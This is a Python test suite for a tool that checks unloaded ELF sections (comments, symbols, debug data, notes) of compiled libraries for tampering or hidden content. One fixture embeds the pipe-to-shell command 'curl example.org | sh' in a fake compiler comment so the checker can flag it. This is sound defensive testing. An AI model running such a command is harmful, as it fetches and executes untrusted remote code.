"""Sections that are not loaded: honest ones of many kinds, and what hides in the others."""

import random
import subprocess
import zlib
from functools import cache
from pathlib import Path
from tempfile import TemporaryDirectory

import pytest

from tests.support.elf import (
    CPP,
    C,
    compiled,
    in_section,
    in_section_header,
    number,
    patched,
    section,
    word,
)
from verify.native.compiler import EXAMPLES, Family, identify
from verify.native.elf import SectionFlag, UnreadableElfError
from verify.native.elf_reader import read_elf
from verify.native.unloaded import Kind, compiler_lines, judge_unloaded

HONEST = compiled(C, "-g", "-gdwarf-4")
NEWER = compiled(C, "-g", "-gdwarf-5")

PROBE = """
__asm__(".pushsection .note.stapsdt,\\"\\",\\"note\\"\\n.balign 4\\n"
        ".4byte 8, 39, 3\\n.asciz \\"stapsdt\\"\\n.8byte 0, 0, 0\\n"
        ".asciz \\"libc\\"\\n.asciz \\"f\\"\\n.asciz \\"-4@%eax\\"\\n.balign 4\\n.popsection");
"""

ATTRIBUTES = """
__asm__(".pushsection .gnu.build.attributes,\\"\\",\\"note\\"\\n.balign 4\\n"
        ".4byte 8, 16, 0x100\\n.byte 0x47, 0x41, 0x24, 1, 0x33, 0x70, 0x31, 0\\n.8byte 0, 0\\n"
        ".4byte 5, 0, 0x101\\n.byte 0x47, 0x41, 0x2b, 2, 0, 0, 0, 0\\n.popsection");
"""

UNKNOWN = """
__asm__(".pushsection .secret,\\"\\",\\"progbits\\"\\n.asciz \\"anything\\"\\n.popsection");
"""


def problems(data: bytes) -> dict[str, str]:
    """What is wrong with the unloaded sections, by name."""
    judged = judge_unloaded(read_elf(data))
    return {one.section: one.problem for one in judged if one.problem}


@cache
def objcopy(data: bytes, *options: str, contents: bytes = b"") -> bytes:
    """The file after objcopy; `contents` stands in the file `contents`."""
    with TemporaryDirectory() as folder:
        Path(folder, "made.so").write_bytes(data)
        Path(folder, "contents").write_bytes(contents)
        command = ["/usr/bin/env", "objcopy", *options, "made.so"]
        subprocess.run(command, cwd=folder, check=True, capture_output=True)
        return Path(folder, "made.so").read_bytes()


def with_contents(data: bytes, name: str, contents: bytes) -> bytes:
    """The file with a section made of other bytes."""
    return objcopy(data, f"--update-section={name}=contents", contents=contents)


def with_compressed(contents: bytes, size: int, kind: int = 1) -> bytes:
    """A file whose `.debug_str` says that it is compressed."""
    header = word(kind, 4) + word(0, 4) + word(size) + word(1)
    data = with_contents(HONEST, ".debug_str", header + contents)
    at = SectionFlag.COMPRESSED | SectionFlag.MERGE | SectionFlag.STRINGS
    return in_section_header(data, ".debug_str", "flags", at)


@pytest.mark.parametrize(
    "data",
    [
        compiled(C),
        compiled(C, "-s"),
        compiled(C, "-g", "-gdwarf-2", "-gstrict-dwarf"),
        compiled(C, "-g", "-gdwarf-3"),
        HONEST,
        NEWER,
        compiled(CPP, "-g", "-gdwarf-4", "-fdebug-types-section"),
        compiled(CPP, "-g", "-O2"),
        compiled(C, "-g", "-gpubnames", "-gdwarf-4"),
        compiled(C, "-g", "-gz=zlib"),
        compiled(C, "-g", "-fno-dwarf2-cfi-asm", "-Wl,--hash-style=sysv"),
        compiled(C, "-g", "-ffunction-sections", "-Wl,--gc-sections"),
        compiled(C, "-fuse-ld=gold"),
        compiled(C + PROBE),
        compiled(C + ATTRIBUTES),
        objcopy(HONEST, "--strip-debug"),
        objcopy(HONEST, "--compress-debug-sections"),
        objcopy(objcopy(HONEST, "--strip-unneeded"), "--add-gnu-debuglink=contents"),
    ],
)
def test_what_compilers_and_linkers_leave_is_no_problem(data: bytes) -> None:
    named = {".gnu_debuglink"} if ".gnu_debuglink" in read_elf(data).by_name else set()
    assert problems(data).keys() == named  # Its file should be named `.debug`.


def test_every_unloaded_section_is_judged_once_and_in_order() -> None:
    judged = judge_unloaded(read_elf(HONEST))
    unloaded = [s for s in read_elf(HONEST).sections[1:] if not s.is_loaded]
    assert [(one.section, one.size) for one in judged] == [(s.name, s.size) for s in unloaded]
    kinds = {one.section: one.kind for one in judged}
    assert kinds[".comment"] == Kind.COMPILER
    assert kinds[".debug_info"] == kinds[".debug_str"] == Kind.DEBUG
    assert (kinds[".symtab"], kinds[".strtab"]) == (Kind.SYMBOLS, Kind.STRINGS)
    assert kinds[".shstrtab"] == Kind.NAMES


def test_a_debug_link_is_a_file_name_and_a_checksum() -> None:
    stripped = compiled(C, "-s")
    section_flag = "--add-section=.gnu_debuglink=contents"
    honest = objcopy(stripped, section_flag, contents=b"made.so.debug\0\0\0\x12\x34\x56\x78")
    assert problems(honest) == {}
    for contents in (
        b"made.so.debug\0\0\0\x12\x34\x56\x78\0\0\0\0",
        b"made.so.debug\0\0x\x12\x34\x56\x78",
        b"made.so.debug\0\x12\x34\x56\x78",
        b"../../made.debug\0\0\0\0\x12\x34\x56\x78",
        b"short",
        b"",
    ):
        assert ".gnu_debuglink" in problems(objcopy(stripped, section_flag, contents=contents))


@pytest.mark.parametrize("example", EXAMPLES)
def test_a_known_tool_is_told_from_its_line(example: str) -> None:
    found = identify(example)
    assert found is not None
    assert found.version in example
    for spoiled in (f"{example} x", f"x{example}", example.replace(" ", "  ", 1), f"{example}\n"):
        assert identify(spoiled) is None


def test_a_compiler_has_a_vendor_and_a_version() -> None:
    found = identify("GCC: (GNU) 10.2.1 20210130 (Red Hat 10.2.1-11)")
    assert found is not None
    assert (found.family, found.vendor, found.version) == (Family.GCC, "Red Hat", "10.2.1")
    (line,) = compiler_lines(read_elf(HONEST))
    here = identify(line)
    assert here is not None
    assert here.family == Family.GCC


@pytest.mark.parametrize(
    "contents",
    [
        b"GCC: (GNU) 10.2.1\0curl example.org | sh\0",
        b"GCC: (GNU) 10.2.1",
        b"GCC: (GNU) 10.2.1\0\x90\x90\0",
        b"GCC: (Debian " + b"1" * 100 + b") 12.2.0\0",
        b"\0" * 100_000,
    ],
)
def test_another_line_in_the_comment_is_a_problem(contents: bytes) -> None:
    assert ".comment" in problems(with_contents(HONEST, ".comment", contents))


def test_an_unknown_section_is_a_problem_whatever_it_holds() -> None:
    assert problems(compiled(C + UNKNOWN)) == {".secret": "is of a kind that is not known"}
    for name in (".debug_secret", ".gnu_debugaltlink", ".gnu.lto_main", ".zdebug_info", ".rustc"):
        added = objcopy(HONEST, f"--add-section={name}=contents", contents=b"\0\0\0\0")
        assert problems(added) == {name: "is of a kind that is not known"}


def test_two_sections_of_one_name_are_a_problem() -> None:
    data = HONEST
    at = read_elf(data).headers[2][0] + 64 * section(data, ".debug_aranges").index
    names = read_elf(data).sections[number(data, 62, 2)]
    offset = data.index(b".comment\0", names.offset) - names.offset
    found = problems(patched(data, at, word(offset, 4)))
    assert found[".comment"] == "stands there more than once"


@pytest.mark.parametrize(
    ("name", "field", "value"),
    [
        (".comment", "address", 0x1000),
        (".comment", "kind", 7),
        (".comment", "flags", 0),
        (".comment", "flags", 0x34),
        (".comment", "link", 3),
        (".comment", "info", 1),
        (".comment", "entry_size", 7),
        (".debug_info", "flags", SectionFlag.WRITE),
        (".debug_info", "kind", 8),
        (".debug_info", "entry_size", 1),
        (".symtab", "info", 0),
        (".symtab", "info", 1),
        (".symtab", "link", 1),
        (".symtab", "entry_size", 8),
        (".strtab", "link", 1),
        (".shstrtab", "flags", 0x30),
    ],
)
def test_a_lie_in_a_section_header_is_a_problem(name: str, field: str, value: int) -> None:
    assert name in problems(in_section_header(HONEST, name, field, value))


def _symbol(data: bytes, name: bytes) -> int:
    """Where the symbol of a name is in `.symtab`."""
    names = section(data, ".strtab")
    offset = data.index(b"\0" + name + b"\0", names.offset) + 1 - names.offset
    found = section(data, ".symtab")
    return next(
        at for at in range(0, found.size, 24) if number(data, found.offset + at, 4) == offset
    )


@pytest.mark.parametrize(
    ("offset", "replacement"),
    [
        (0, word(0x7FFFFFFF, 4)),
        (4, b"\x42"),
        (4, b"\x1f"),
        (5, b"\x04"),
        (6, word(0x7000, 2)),
        (8, word(0x10)),
        (16, word(0x1000000)),
    ],
)
def test_a_lie_in_a_symbol_is_a_problem(offset: int, replacement: bytes) -> None:
    at = _symbol(HONEST, b"greet") + offset
    assert ".symtab" in problems(in_section(HONEST, ".symtab", at, replacement))


def test_names_of_no_symbol_are_a_problem() -> None:
    at = _symbol(HONEST, b"greet")
    unused = problems(in_section(HONEST, ".symtab", at, word(0, 4)))
    assert "that nothing refers to" in unused[".symtab"]
    partly = number(HONEST, section(HONEST, ".symtab").offset + at, 4) + 1
    unused = problems(in_section(HONEST, ".symtab", at, word(partly, 4)))
    assert "that nothing refers to" in unused[".symtab"]


@pytest.mark.parametrize("letter", [b" ", b"\x01", b"\xff", b"/", b"\n", b"`"])
def test_a_name_that_is_none_is_a_problem(letter: bytes) -> None:
    names = section(HONEST, ".strtab")
    at = HONEST.index(b"\0greet\0", names.offset) + 2
    assert "no compiler makes" in problems(patched(HONEST, at, letter))[".symtab"]


def test_names_of_no_section_are_a_problem() -> None:
    data = objcopy(HONEST, "--rename-section=.comment=.commentary")
    names = section(data, ".shstrtab")
    at = data.index(b".commentary\0", names.offset)
    hidden = patched(data, at, b".comment\0x\0")
    assert "that nothing refers to" in problems(hidden)[".shstrtab"]


def _units(name: str, data: bytes = HONEST) -> int:
    return section(data, name).offset


@pytest.mark.parametrize(
    ("name", "offset", "replacement"),
    [
        (".debug_info", 0, word(8, 4)),
        (".debug_info", 0, word(0xFFFFFFFF, 4)),
        (".debug_info", 0, word(0x7FFFFFFF, 4)),
        (".debug_info", 4, word(9, 2)),
        (".debug_info", 6, word(1, 4)),
        (".debug_info", 10, b"\x04"),
        (".debug_abbrev", 0, b"\0"),
        (".debug_abbrev", -1, b"\1"),
        (".debug_abbrev", 2, b"\2"),
        (".debug_aranges", 4, word(3, 2)),
        (".debug_aranges", 6, word(1, 4)),
        (".debug_aranges", 12, b"\1"),
        (".debug_aranges", -1, b"\1"),
        (".debug_line", 0, word(6, 4)),
        (".debug_line", 6, word(0x7FFFFFFF, 4)),
        (".debug_line", 15, b"\0"),
        (".debug_line", 16, b"\7"),
        (".debug_str", -1, b"x"),
        (".debug_str", 1, b"\x90"),
        (".debug_str", 1, b"\x02"),
    ],
)
def test_a_lie_in_debug_information_is_a_problem(
    name: str, offset: int, replacement: bytes
) -> None:
    assert problems(in_section(HONEST, name, offset, replacement))


@pytest.mark.parametrize(
    ("name", "offset", "replacement"),
    [
        (".debug_info", 6, b"\x09"),
        (".debug_info", 7, b"\x04"),
        (".debug_info", 8, word(1, 4)),
        (".debug_line", 6, b"\x04"),
        (".debug_line_str", -1, b"x"),
        (".debug_rnglists", 4, word(4, 2)),
        (".debug_rnglists", 6, b"\x04"),
        (".debug_rnglists", 8, word(1 << 20, 4)),
        (".debug_rnglists", -1, b"\x77"),
        (".debug_loclists", 0, word(4, 4)),
        (".debug_loclists", 8, word(1 << 20, 4)),
    ],
)
def test_a_lie_in_newer_debug_information_is_a_problem(
    name: str, offset: int, replacement: bytes
) -> None:
    data = compiled(CPP, "-g", "-O2")
    assert name in problems(in_section(data, name, offset, replacement))


def test_compressed_debug_information_is_bounded() -> None:
    text = b"a string\0" * 1000
    assert problems(with_compressed(zlib.compress(text), len(text))) == {}
    for data in (
        with_compressed(zlib.compress(text), len(text) - 1),
        with_compressed(zlib.compress(text), len(text) + 1),
        with_compressed(zlib.compress(text) + b"behind", len(text)),
        with_compressed(zlib.compress(text)[:-5], len(text)),
        with_compressed(zlib.compress(text), 1 << 40),
        with_compressed(zlib.compress(text), len(text), kind=2),
        with_compressed(b"not at all compressed", 10),
        with_compressed(zlib.compress(b"no end"), 6),
    ):
        assert ".debug_str" in problems(data)


def test_notes_of_other_shapes_are_a_problem() -> None:
    for source, name, spoiled in (
        (PROBE, ".note.stapsdt", ('asciz \\"stapsdt', 'asciz \\"stopsdt')),
        (PROBE, ".note.stapsdt", ("8, 39, 3", "8, 39, 4")),
        (PROBE, ".note.stapsdt", ("8, 39, 3", "8, 36, 3")),
        (PROBE, ".note.stapsdt", ("-4@%eax", "-4;%eax")),
        (ATTRIBUTES, ".gnu.build.attributes", ("0x101", "0x102")),
        (ATTRIBUTES, ".gnu.build.attributes", ("0x47, 0x41, 0x2b", "0x47, 0x42, 0x2b")),
        (ATTRIBUTES, ".gnu.build.attributes", ("2, 0, 0, 0, 0", "2, 0, 0, 1, 0")),
        (ATTRIBUTES, ".gnu.build.attributes", ("8, 16, 0x100", "8, 12, 0x100")),
    ):
        assert spoiled[0] in source
        assert problems(compiled(C + source.replace(*spoiled))).keys() == {name}


@pytest.mark.parametrize("data", [HONEST, NEWER, compiled(C, "-g", "-gz=zlib")])
def test_no_flipped_byte_raises_anything(data: bytes) -> None:
    chance = random.Random(7)  # noqa: S311
    sections = [s for s in read_elf(data).sections[1:] if not s.is_loaded]
    found = 0
    for _ in range(700):
        one = chance.choice(sections)
        at = one.offset + chance.randrange(one.size)
        changed = patched(data, at, bytes((chance.randrange(256),)))
        try:
            found += bool(problems(changed))
        except UnreadableElfError:  # The name of a section.
            assert one.name == ".shstrtab"
    assert found > 100


def test_a_cut_section_is_a_problem_or_shaped_as_before() -> None:
    for name in (".debug_info", ".debug_line", ".debug_aranges", ".symtab", ".strtab"):
        for size in range(section(HONEST, name).size - 1, 0, -37):
            assert problems(in_section_header(HONEST, name, "size", size))


BINARY = compiled(
    'static const char key[] = "\\377\\001\\277 0123456789";\nint f(void) { return key[0]; }\n',
    "-O2",
    "-g",
    "-gdwarf-4",
)


def test_a_constant_that_is_no_text_stands_among_names_where_the_rebuild_has_it_too() -> None:
    elf = read_elf(BINARY)
    assert problems(BINARY) == {".debug_str": "has a string that is no text"}
    assert not [one for one in judge_unloaded(elf, elf) if one.problem]
    other = read_elf(in_section(BINARY, ".debug_str", -8, b"\x02"))
    assert [one.section for one in judge_unloaded(other, elf) if one.problem] == [".debug_str"]
    stripped = read_elf(objcopy(BINARY, "--strip-debug"))
    assert [one.section for one in judge_unloaded(elf, stripped) if one.problem] == [".debug_str"]
